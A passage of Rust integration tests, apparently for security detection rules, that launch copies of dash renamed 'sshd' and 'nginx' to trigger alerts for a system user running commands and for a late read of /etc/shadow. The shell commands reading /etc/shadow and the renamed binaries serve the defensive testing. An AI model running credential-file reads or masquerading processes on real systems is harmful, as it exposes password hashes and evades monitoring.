    };
    // A login daemon, here a copy of dash named like it, runs a command.
    let sshd = live.copy_as("/bin/dash", "sshd");
    let nobody = 65534;
    let mut command = live.host.command_as(&sshd, nobody, nobody);
    command
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .current_dir("/")
        .args(["-c", "/bin/true; true"]);
    let fired = live.run(command);
    let mut command = live.command(Place::Host, &sshd);
    command.args(["-c", "/bin/true; true"]);
    let benign = live.run(command);
    let done = live.finish();
    done.fired_once(
        parent_is(fired),
        &[
            "System user ran an interactive command",
            "user=nobody ",
            "user_uid=65534 ",
            "process=true ",
            "parent=sshd ",
        ],
    );
    done.saw(parent_is(benign), "execve");
}

#[test]
fn read_sensitive_file_trusted_after_startup_fires_for_a_server_reading_late_and_not_early() {
    let Some(mut live) = Live::start("Read sensitive file trusted after startup") else {
        return;
    };
    // A web server, here a copy of dash named like it, reads /etc/shadow
    // at once (the rule allows that at startup), and after 5 s.
    let server = live.copy_as("/bin/dash", "nginx");
    let mut command = live.command(Place::Host, &server);
    command.args(["-c", "read line < /etc/shadow; true"]);
    let benign = live.run(command);
    let mut command = live.command(Place::Host, &server);
    command.args(["-c", "sleep 5.5; read line < /etc/shadow; true"]);
    let fired = live.run(command);
    let done = live.finish();
    done.fired_once(
        pid_is(fired),
        &[
            "Sensitive file opened for reading by trusted program after startup",
            "file=/etc/shadow ",
            "process=nginx ",
            &format!("proc_exepath={} ", server.display()),
        ],
    );
    done.saw(pid_is(benign), "openat");
}
